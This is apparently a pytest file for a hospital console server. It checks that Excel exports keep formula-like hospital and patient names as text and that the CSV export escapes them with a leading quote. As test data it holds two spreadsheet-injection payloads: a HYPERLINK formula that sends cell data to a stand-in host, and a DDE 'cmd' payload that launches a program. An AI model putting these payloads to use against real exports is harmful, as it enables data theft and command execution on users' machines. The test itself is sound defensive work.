"""Every workbook the server writes stores text as text: a hospital or patient name that reads like a formula
is shown as written in Excel, never run (server/spreadsheet.py)."""

from __future__ import annotations

import io
import zipfile
from contextlib import closing
from datetime import datetime

from openpyxl import load_workbook
from sqlmodel import Session, select

from server.flags.tables import Flag
from server.hospitals.tables import Hospital
from server.localtime import LOCAL_TZ
from server.persons.tables import InsuredPerson
from tests.console.helpers import sign_in

HOSPITAL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
PATIENT = "=1+cmd|' /C calc'!A0"


def _formulas_and_texts(body: bytes) -> tuple[list[str], set[str]]:
    """Every formula in the workbook's sheets (raw XML), and every text cell's value."""
    archive = zipfile.ZipFile(io.BytesIO(body))
    formulas = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and b"<f>" in archive.read(n)]
    workbook = load_workbook(io.BytesIO(body))
    texts = {c.value for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "s"}
    return formulas, texts


def test_names_that_read_like_formulas_are_text_in_every_excel_file(county, engine) -> None:
    server, world, flags = county
    with Session(engine) as db:
        hospital = db.get(Hospital, world.hospital_ids[0])
        hospital.name = HOSPITAL
        db.add(hospital)
        flag = db.exec(select(Flag).where(Flag.hospital_id == world.hospital_ids[0])).first()
        person = db.get(InsuredPerson, flag.insured_person_id)
        person.name = PATIENT + "\x07"  # a control character xlsx cannot hold: dropped, not a failed export
        db.add(person)
        db.commit()
    today = datetime.now(LOCAL_TZ).date().isoformat()
    with closing(sign_in(server.url, "sup")) as sup:
        for url, params in (("/console/exports/flags.xlsx", {}), ("/console/exports/campaigns/1/summary.xlsx", {}),
                            ("/console/reports/report.xlsx", {"from": today, "to": today}),
                            ("/console/statistics/statistics.xlsx", {"from": today, "to": today})):
            response = sup.get(url, params=params)
            assert response.status_code == 200, (url, response.text[:200])
            formulas, texts = _formulas_and_texts(response.content)
            assert formulas == [], url
            assert any(HOSPITAL in t for t in texts), url
            if "flags" in url:
                assert PATIENT in texts
        # CSV keeps its own guard: the leading quote (a CSV cell has no type).
        assert f"'{HOSPITAL}".replace('"', '""') in sup.get("/console/exports/flags.csv").text
